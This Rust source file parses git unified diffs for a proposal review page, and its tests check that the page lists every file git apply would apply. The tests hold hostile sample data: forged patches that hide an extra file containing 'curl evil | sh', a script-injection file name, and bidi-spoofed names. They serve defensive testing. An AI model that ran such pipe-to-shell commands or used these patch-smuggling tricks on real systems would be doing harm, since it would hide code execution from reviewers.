//! A unified diff as git writes it (a proposal's stored patch, or `git diff -M -w`), read into
//! files, hunks and lines numbered on both sides, for the proposal page. Hunks are read by their
//! counts, so a content line that looks like a header (`+++ x`, `diff --git`) stays content;
//! outside a hunk, what is not understood (a binary literal, `index` lines) is passed over.

/// How a file changed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Status {
    Added,
    Deleted,
    Modified,
    Renamed,
    Copied,
}

impl Status {
    /// The word the page shows (and its CSS class).
    pub(crate) fn word(self) -> &'static str {
        match self {
            Status::Added => "added",
            Status::Deleted => "deleted",
            Status::Modified => "modified",
            Status::Renamed => "renamed",
            Status::Copied => "copied",
        }
    }
}

/// What a line of a hunk is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    Context,
    Added,
    Removed,
}

/// One line of a hunk: its number in the old file (context and removed lines), in the new file
/// (context and added lines), and its text without the leading marker.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Line {
    pub kind: Kind,
    pub old: Option<u64>,
    pub new: Option<u64>,
    pub text: String,
    /// Followed by `\ No newline at end of file`.
    pub no_newline: bool,
}

/// One `@@ -a,b +c,d @@ section` and its lines.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Hunk {
    pub old_start: u64,
    pub old_count: u64,
    pub new_start: u64,
    pub new_count: u64,
    /// What git printed after the second `@@` (the enclosing function, often).
    pub section: String,
    pub lines: Vec<Line>,
}

/// One file of the diff.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct FileDiff {
    /// The path before (for an added file, the path it gets).
    pub old_path: String,
    /// The path after (for a deleted file, the path it had).
    pub new_path: String,
    pub status: Status,
    /// A rename's or copy's similarity, in percent.
    pub similarity: Option<u8>,
    /// `(old, new)` when the mode changed, or the mode of an added or deleted file on its side.
    pub old_mode: Option<String>,
    pub new_mode: Option<String>,
    pub binary: bool,
    pub hunks: Vec<Hunk>,
    pub added: u64,
    pub removed: u64,
}

impl FileDiff {
    fn new(old_path: String, new_path: String) -> Self {
        Self {
            old_path,
            new_path,
            status: Status::Modified,
            similarity: None,
            old_mode: None,
            new_mode: None,
            binary: false,
            hunks: Vec::new(),
            added: 0,
            removed: 0,
        }
    }

    /// The path the file is known by: where it is after the change, where it was if deleted. The
    /// review gates name files the same way.
    pub(crate) fn path(&self) -> &str {
        if self.status == Status::Deleted { &self.old_path } else { &self.new_path }
    }
}

/// The files of `patch`, in order, with their hunks and counts. Files start where `git apply`
/// finds them: at a `diff --git` line, or at a traditional `---`/`+++`/`@@` header that follows
/// what is not a file's header (a preamble, or a file whose header ended). A stored patch is git's
/// own, but a patch edited in the state directory must not hold a file the page leaves out, or
/// read another file's header lines as its own: accept applies what `git apply` finds.
pub(crate) fn parse(patch: &[u8]) -> Vec<FileDiff> {
    let text = String::from_utf8_lossy(patch);
    // Split on `\n` only: a carriage return before it belongs to the line's text. The last
    // newline ends the last line; nothing follows it.
    let mut lines = text.strip_suffix('\n').unwrap_or(&text).split('\n').peekable();
    let mut files: Vec<FileDiff> = Vec::new();
    // Whether the last file's header has ended (a hunk, a binary patch or its `+++` was read):
    // after it, header lines are not its own, as `git apply` reads them.
    let mut header_ended = true;
    while let Some(line) = lines.next() {
        if let Some(rest) = line.strip_prefix("diff --git ") {
            let (old, new) = git_line_paths(rest);
            files.push(FileDiff::new(old, new));
            header_ended = false;
            continue;
        }
        if header_ended && let Some(old) = line.strip_prefix("--- ") {
            // `git apply` takes `---`, `+++` and `@@ -` on three lines as a traditional patch.
            let mut ahead = lines.clone();
            if let (Some(new), Some(hunk)) = (ahead.next().and_then(|l| l.strip_prefix("+++ ")), ahead.next())
                && hunk.starts_with("@@ -")
            {
                files.push(traditional(old, new));
                lines.next();
                continue;
            }
        }
        let Some(file) = files.last_mut() else { continue };
        if let Some((old_start, mut old_left, new_start, mut new_left, section)) = hunk_header(line) {
            header_ended = true;
            let (old_count, new_count) = (old_left, new_left);
            let mut hunk = Hunk { old_start, old_count, new_start, new_count, section, lines: Vec::new() };
            let (mut old_at, mut new_at) = (old_start, new_start);
            loop {
                // A `\` line marks the line before it, and may follow a hunk's last line.
                if let Some(marker) = lines.peek()
                    && marker.starts_with('\\')
                {
                    if let Some(last) = hunk.lines.last_mut() {
                        last.no_newline = true;
                    }
                    lines.next();
                    continue;
                }
                if old_left == 0 && new_left == 0 {
                    break;
                }
                let Some(next) = lines.peek() else { break };
                let (kind, text) = match next.chars().next() {
                    Some('+') if new_left > 0 => (Kind::Added, &next[1..]),
                    Some('-') if old_left > 0 => (Kind::Removed, &next[1..]),
                    Some(' ') if old_left > 0 && new_left > 0 => (Kind::Context, &next[1..]),
                    // A blank context line whose space was stripped on the way.
                    None if old_left > 0 && new_left > 0 => (Kind::Context, ""),
                    // The hunk is cut short: what follows is read as headers.
                    _ => break,
                };
                let (old, new) = match kind {
                    Kind::Added => (None, Some(new_at)),
                    Kind::Removed => (Some(old_at), None),
                    Kind::Context => (Some(old_at), Some(new_at)),
                };
                if old.is_some() {
                    old_at += 1;
                    old_left -= 1;
                }
                if new.is_some() {
                    new_at += 1;
                    new_left -= 1;
                }
                match kind {
                    Kind::Added => file.added += 1,
                    Kind::Removed => file.removed += 1,
                    Kind::Context => {}
                }
                hunk.lines.push(Line { kind, old, new, text: text.to_owned(), no_newline: false });
                lines.next();
            }
            file.hunks.push(hunk);
        } else if !header_ended {
            header_ended = header(file, line);
        }
    }
    files
}

/// A file of a traditional patch (`--- OLD`, `+++ NEW`): its names without a date after a tab and
/// without their first folder (`git apply -p1`); `/dev/null` on a side makes it added or deleted.
fn traditional(old: &str, new: &str) -> FileDiff {
    let name = |text: &str| {
        let text =
            if text.starts_with('"') { unquoted(text) } else { text.split('\t').next().unwrap_or(text).to_owned() };
        (text != "/dev/null").then(|| text.split_once('/').map_or(text.clone(), |(_, rest)| rest.to_owned()))
    };
    let (old, new) = (name(old), name(new));
    let mut file = FileDiff::new(
        old.clone().or_else(|| new.clone()).unwrap_or_default(),
        new.clone().or_else(|| old.clone()).unwrap_or_default(),
    );
    match (old, new) {
        (None, Some(_)) => file.status = Status::Added,
        (Some(_), None) => file.status = Status::Deleted,
        _ => {}
    }
    file
}

/// One extended header line (or `---`/`+++`) of `file`; whether the header ended with it: at a
/// binary patch, the `+++` line or a line that is no header line, as `git apply` ends it (after
/// it, only hunks are the file's).
fn header(file: &mut FileDiff, line: &str) -> bool {
    if let Some(mode) = line.strip_prefix("new file mode ") {
        file.status = Status::Added;
        file.new_mode = Some(mode.to_owned());
    } else if let Some(mode) = line.strip_prefix("deleted file mode ") {
        file.status = Status::Deleted;
        file.old_mode = Some(mode.to_owned());
    } else if let Some(mode) = line.strip_prefix("old mode ") {
        file.old_mode = Some(mode.to_owned());
    } else if let Some(mode) = line.strip_prefix("new mode ") {
        file.new_mode = Some(mode.to_owned());
    } else if let Some(path) = line.strip_prefix("rename from ") {
        file.status = Status::Renamed;
        file.old_path = unquoted(path);
    } else if let Some(path) = line.strip_prefix("rename to ") {
        file.status = Status::Renamed;
        file.new_path = unquoted(path);
    } else if let Some(path) = line.strip_prefix("copy from ") {
        file.status = Status::Copied;
        file.old_path = unquoted(path);
    } else if let Some(path) = line.strip_prefix("copy to ") {
        file.status = Status::Copied;
        file.new_path = unquoted(path);
    } else if let Some(percent) = line.strip_prefix("similarity index ") {
        file.similarity = percent.trim_end_matches('%').parse().ok();
    } else if line.starts_with("index ") || line.starts_with("dissimilarity index ") {
        // Nothing the page shows.
    } else if line.starts_with("Binary files ") || line == "GIT binary patch" {
        file.binary = true;
        return true;
    } else if let Some(path) = line.strip_prefix("--- ") {
        if let Some(path) = side_path(path, "a/") {
            file.old_path = path;
        }
    } else if let Some(path) = line.strip_prefix("+++ ") {
        if let Some(path) = side_path(path, "b/") {
            file.new_path = path;
        }
        return true;
    } else {
        return true;
    }
    false
}

/// The path of a `---`/`+++` line without its `a/` or `b/`; none for `/dev/null`. Git ends a
/// name holding a space with a tab (for GNU patch), which is not part of it.
fn side_path(text: &str, prefix: &str) -> Option<String> {
    let text = text.strip_suffix('\t').unwrap_or(text);
    if text == "/dev/null" {
        return None;
    }
    let path = unquoted(text);
    Some(path.strip_prefix(prefix).map(str::to_owned).unwrap_or(path))
}

/// `@@ -a[,b] +c[,d] @@ section`: the starts, the counts and the section.
fn hunk_header(line: &str) -> Option<(u64, u64, u64, u64, String)> {
    let rest = line.strip_prefix("@@ -")?;
    let (ranges, section) = rest.split_once(" @@")?;
    let (old, new) = ranges.split_once(" +")?;
    let range = |r: &str| -> Option<(u64, u64)> {
        match r.split_once(',') {
            Some((start, count)) => Some((start.parse().ok()?, count.parse().ok()?)),
            None => Some((r.parse().ok()?, 1)),
        }
    };
    let ((old_start, old_count), (new_start, new_count)) = (range(old)?, range(new)?);
    Some((old_start, old_count, new_start, new_count, section.trim_start().to_owned()))
}

/// The two paths of `diff --git a/X b/Y` without their prefixes. Each is quoted when it holds
/// what git escapes; two unquoted paths are split where the line is two halves of one name (the
/// usual case), else at ` b/`. Renames and copies name their paths again in their own headers.
fn git_line_paths(rest: &str) -> (String, String) {
    let strip = |path: String, prefix: &str| path.strip_prefix(prefix).map(str::to_owned).unwrap_or(path);
    let (old, new) = if rest.starts_with('"') {
        let (old, after) = quoted_prefix(rest);
        (old, unquoted(after.trim_start()))
    } else if let Some(at) = rest.find(" \"") {
        (rest[..at].to_owned(), unquoted(&rest[at + 1..]))
    } else {
        let half = rest.len().saturating_sub(1) / 2;
        let same = rest.is_char_boundary(half)
            && rest.is_char_boundary(half + 1)
            && rest.get(half..half + 1) == Some(" ")
            && rest.get(2..half) == rest.get(half + 3..);
        match (same, rest.find(" b/")) {
            (true, _) => (rest[..half].to_owned(), rest[half + 1..].to_owned()),
            (false, Some(at)) => (rest[..at].to_owned(), rest[at + 1..].to_owned()),
            (false, None) => (rest.to_owned(), rest.to_owned()),
        }
    };
    (strip(old, "a/"), strip(new, "b/"))
}

/// A name as git writes it: as is, or in double quotes with C escapes (`\t`, `\"`, `\\`, octal
/// bytes of UTF-8).
fn unquoted(text: &str) -> String {
    if text.starts_with('"') { quoted_prefix(text).0 } else { text.to_owned() }
}

/// The quoted name that starts `text`, unescaped, and what follows its closing quote.
fn quoted_prefix(text: &str) -> (String, &str) {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 1;
    while i < bytes.len() {
        match bytes[i] {
            b'"' => return (String::from_utf8_lossy(&out).into_owned(), &text[i + 1..]),
            b'\\' if i + 1 < bytes.len() => {
                let escaped = bytes[i + 1];
                let octal = bytes.get(i + 1..i + 4).filter(|d| d.iter().all(|b| (b'0'..=b'7').contains(b)));
                if let Some(digits) = octal {
                    let value = digits.iter().fold(0u32, |n, d| n * 8 + u32::from(d - b'0'));
                    out.push(u8::try_from(value).unwrap_or(b'?'));
                    i += 4;
                    continue;
                }
                out.push(match escaped {
                    b'a' => 0x07,
                    b'b' => 0x08,
                    b't' => b'\t',
                    b'n' => b'\n',
                    b'v' => 0x0b,
                    b'f' => 0x0c,
                    b'r' => b'\r',
                    other => other,
                });
                i += 2;
            }
            byte => {
                out.push(byte);
                i += 1;
            }
        }
    }
    // No closing quote: the whole rest was the name.
    (String::from_utf8_lossy(&out).into_owned(), "")
}

#[cfg(test)]
mod tests {
    use super::*;

    const PATCH: &str = "\
diff --git a/src/lib.rs b/src/lib.rs
index 1111111..2222222 100644
--- a/src/lib.rs
+++ b/src/lib.rs
@@ -1,4 +1,5 @@ fn main() {
 one
-two
+zwei
+drei
 
 four
@@ -10,2 +11,2 @@
 ten
-eleven
\\ No newline at end of file
+elf
\\ No newline at end of file
diff --git a/new file.txt b/new file.txt
new file mode 100755
index 0000000..3333333
--- /dev/null
+++ b/new file.txt\t
@@ -0,0 +1,2 @@
+--- not a header
++++ nor this
diff --git a/old.md b/docs/moved.md
similarity index 90%
rename from old.md
rename to docs/moved.md
index 4444444..5555555 100644
--- a/old.md
+++ b/docs/moved.md
@@ -3 +3 @@
-x
+y
diff --git a/gone.bin b/gone.bin
deleted file mode 100644
index 6666666..0000000
GIT binary patch
literal 0
HcmV?d00001

literal 12
TcmZ?wbaQlJU|@iNN0R{

diff --git \"a/tab\\there\" \"b/tab\\there\"
old mode 100644
new mode 100755
diff --git a/same.md b/same-too.md
similarity index 100%
rename from same.md
rename to same-too.md
";

    #[test]
    fn files_hunks_and_both_line_numbers_are_read() {
        let files = parse(PATCH.as_bytes());
        let paths: Vec<&str> = files.iter().map(FileDiff::path).collect();
        assert_eq!(paths, ["src/lib.rs", "new file.txt", "docs/moved.md", "gone.bin", "tab\there", "same-too.md"]);
        let lib = &files[0];
        assert_eq!((lib.status, lib.added, lib.removed, lib.hunks.len()), (Status::Modified, 3, 2, 2));
        assert_eq!(lib.hunks[0].section, "fn main() {");
        assert_eq!((lib.hunks[0].old_count, lib.hunks[0].new_count, lib.hunks[1].new_start), (4, 5, 11));
        let numbered: Vec<(Kind, Option<u64>, Option<u64>, &str)> =
            lib.hunks[0].lines.iter().map(|l| (l.kind, l.old, l.new, l.text.as_str())).collect();
        assert_eq!(
            numbered,
            [
                (Kind::Context, Some(1), Some(1), "one"),
                (Kind::Removed, Some(2), None, "two"),
                (Kind::Added, None, Some(2), "zwei"),
                (Kind::Added, None, Some(3), "drei"),
                (Kind::Context, Some(3), Some(4), ""),
                (Kind::Context, Some(4), Some(5), "four"),
            ]
        );
        let second = &lib.hunks[1].lines;
        assert_eq!((second[1].old, second[1].no_newline), (Some(11), true));
        assert_eq!((second[2].new, second[2].no_newline, second[2].text.as_str()), (Some(12), true, "elf"));
    }

    #[test]
    fn content_that_looks_like_headers_stays_content() {
        let files = parse(PATCH.as_bytes());
        let added = &files[1];
        assert_eq!((added.status, added.new_mode.as_deref()), (Status::Added, Some("100755")));
        let texts: Vec<&str> = added.hunks[0].lines.iter().map(|l| l.text.as_str()).collect();
        assert_eq!(texts, ["--- not a header", "+++ nor this"]);
        assert_eq!((added.added, added.removed), (2, 0));
    }

    #[test]
    fn renames_binaries_modes_and_quoted_names_are_told() {
        let files = parse(PATCH.as_bytes());
        let moved = &files[2];
        assert_eq!((moved.status, moved.similarity), (Status::Renamed, Some(90)));
        assert_eq!((moved.old_path.as_str(), moved.new_path.as_str()), ("old.md", "docs/moved.md"));
        assert_eq!((moved.hunks[0].lines[0].old, moved.hunks[0].lines[1].new), (Some(3), Some(3)));
        let gone = &files[3];
        assert_eq!((gone.status, gone.binary, gone.hunks.len()), (Status::Deleted, true, 0));
        let mode = &files[4];
        assert_eq!((mode.old_mode.as_deref(), mode.new_mode.as_deref()), (Some("100644"), Some("100755")));
        let pure = &files[5];
        assert_eq!((pure.status, pure.similarity, pure.old_path.as_str()), (Status::Renamed, Some(100), "same.md"));
    }

    #[test]
    fn quoted_names_unescape_octal_utf8() {
        assert_eq!(unquoted("\"a/evil\\342\\200\\256gpj.md\""), "a/evil\u{202e}gpj.md");
        assert_eq!(unquoted("\"a/q\\\"uote\\\\\""), "a/q\"uote\\");
        assert_eq!(git_line_paths("a/x y b/x y"), ("x y".to_owned(), "x y".to_owned()));
        assert_eq!(git_line_paths("a/one b/two"), ("one".to_owned(), "two".to_owned()));
    }

    /// What `git apply --numstat` finds in `patch` (as accept's `git apply` would read it):
    /// each file's added and removed lines and path; `None` when git refuses the patch.
    fn numstat_of_git_apply(patch: &str) -> Option<Vec<(u64, u64, String)>> {
        use std::io::Write as _;
        let dir = tempfile::tempdir().expect("tempdir");
        let mut child = std::process::Command::new("git")
            .args(["apply", "--numstat", "-"])
            .current_dir(dir.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("git");
        child.stdin.take().expect("stdin").write_all(patch.as_bytes()).expect("write");
        let output = child.wait_with_output().expect("git apply");
        if !output.status.success() {
            return None;
        }
        let text = String::from_utf8(output.stdout).expect("utf-8");
        let count = |n: &str| n.parse().unwrap_or(0);
        Some(
            text.lines()
                .filter_map(|line| {
                    let mut fields = line.splitn(3, '\t');
                    Some((count(fields.next()?), count(fields.next()?), fields.next()?.to_owned()))
                })
                .collect(),
        )
    }

    /// Hostile: a patch edited in the state directory (its digest with it) holds, beside a file
    /// the page shows, a file in a traditional header (`---`/`+++`/`@@`) before the first `diff
    /// --git` or after a file's hunks, or a `+++` line after the hunks. `git apply` (accept)
    /// applies every file; the page must list each one, with its counts, under its own name.
    #[test]
    fn every_file_git_apply_finds_is_listed_with_its_counts() {
        let forged = [
            // A traditional patch after a file's hunks: git applies evil.sh too.
            "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+uno\n--- a/evil.sh\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n",
            // One before the first `diff --git`, and a stray `+++` after a file's hunks.
            "--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\ndiff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+uno\n+++ b/shown-name\nrename to other\n",
            // Traditional names with dates, then a git one.
            "--- a/x.c\t2020-01-01 00:00:00\n+++ b/x.c\t2020-01-01 00:00:00\n@@ -1,2 +1,2 @@\n a\n-b\n+c\ndiff --git a/y b/y\nnew file mode 100644\n--- /dev/null\n+++ b/y\n@@ -0,0 +1,2 @@\n+1\n+2\n",
            // Lines after a hunk that its counts leave out, then a traditional file.
            "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-x\n+y\n+z\n-w\n--- a/b\n+++ b/b\n@@ -1 +1 @@\n-p\n+q\n",
            // A mode change, or a rename, whose header a blank or unknown line ends.
            "diff --git a/x b/x\nold mode 100644\nnew mode 100755\n\n--- a/evil\n+++ b/evil\n@@ -0,0 +1 @@\n+x\n",
            "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\nzz\n--- a/evil\n+++ b/evil\n@@ -0,0 +1 @@\n+x\n",
            // A header line `git apply` reads as this file's.
            "diff --git a/x b/x\nold mode 100644\nnew mode 100755\n--- a/evil\n+++ b/evil\n@@ -0,0 +1 @@\n+x\n",
            "diff --git a/x b/x\nGARBAGE\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
        ];
        for patch in forged {
            let applied = numstat_of_git_apply(patch).expect("git applies the forged patch");
            let shown: Vec<(u64, u64, String)> =
                parse(patch.as_bytes()).iter().map(|f| (f.added, f.removed, f.path().to_owned())).collect();
            for file in &applied {
                assert!(shown.contains(file), "{file:?}, which accept applies, is not on the page {shown:?}:\n{patch}");
            }
            for file in shown.iter().filter(|(added, removed, _)| added + removed > 0) {
                assert!(applied.contains(file), "{file:?} is on the page but not applied {applied:?}:\n{patch}");
            }
        }
    }

    /// Hostile: file names an agent chooses (quotes, tabs, newlines, ` b/` inside, bidi controls,
    /// non-ASCII git quotes as octal), made into a patch as the controller makes it; the page
    /// names each file as git does, with git's counts.
    #[test]
    fn hostile_names_in_a_real_patch_are_read_as_git_names_them() {
        let dir = tempfile::tempdir().expect("tempdir");
        let git = |args: &[&str]| {
            let output = std::process::Command::new("git")
                .args(args)
                .current_dir(dir.path())
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .output()
                .expect("git");
            assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
            output.stdout
        };
        let names = [
            "x b/y b/z.txt",
            "q\"uote\\d.txt",
            "tab\there.txt",
            "new\nline.txt",
            "caf\u{e9}.txt",
            "evil\u{202e}gpj.md",
            " lead and trail ",
            "<script>alert(1)<\\script>.html",
            "diff --git a b",
        ];
        git(&["init", "-q"]);
        for (n, name) in names.iter().enumerate() {
            let path = dir.path().join(name);
            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            std::fs::write(&path, format!("line {n}\nsame\n")).expect("write");
        }
        std::fs::write(dir.path().join("moved from b"), "a\nb\nc\nd\ne\nf\n").expect("write");
        git(&["add", "-A"]);
        let before = String::from_utf8(git(&["write-tree"])).expect("tree").trim().to_owned();
        for (n, name) in names.iter().enumerate() {
            std::fs::write(dir.path().join(name), format!("line {n}\n+++ b/other\ndiff --git a/x b/x\nsame\n"))
                .expect("write");
        }
        std::fs::rename(dir.path().join("moved from b"), dir.path().join("x b/moved to b")).expect("rename");
        git(&["add", "-A"]);
        let after = String::from_utf8(git(&["write-tree"])).expect("tree").trim().to_owned();
        let common = ["--no-ext-diff", "--no-textconv", "--no-color", "--find-renames", "--full-index"];
        let patch = git(&[&["diff", "--binary"][..], &common, &[&before, &after]].concat());
        let numstat = String::from_utf8(git(&[&["diff", "--numstat", "-z"][..], &common, &[&before, &after]].concat()))
            .expect("utf-8");
        // -z: "ADD\tDEL\tPATH\0", or "ADD\tDEL\t\0OLD\0NEW\0" for a rename.
        let mut expected = Vec::new();
        let mut fields = numstat.split('\0');
        while let Some(record) = fields.next() {
            let mut parts = record.splitn(3, '\t');
            let (Some(added), Some(removed), Some(path)) = (parts.next(), parts.next(), parts.next()) else { continue };
            let path = if path.is_empty() {
                fields.next();
                fields.next().unwrap_or_default()
            } else {
                path
            };
            expected.push((added.parse::<u64>().unwrap_or(0), removed.parse::<u64>().unwrap_or(0), path.to_owned()));
        }
        let shown: Vec<(u64, u64, String)> =
            parse(&patch).iter().map(|f| (f.added, f.removed, f.path().to_owned())).collect();
        assert_eq!(shown, expected, "{}", String::from_utf8_lossy(&patch));
        assert_eq!(shown.len(), names.len() + 1);
    }

    #[test]
    fn a_hunk_cut_short_ends_where_its_lines_do() {
        let files = parse(b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\n");
        assert_eq!(files[0].hunks[0].lines.len(), 1);
        assert!(parse(b"not a diff\n").is_empty());
    }
}
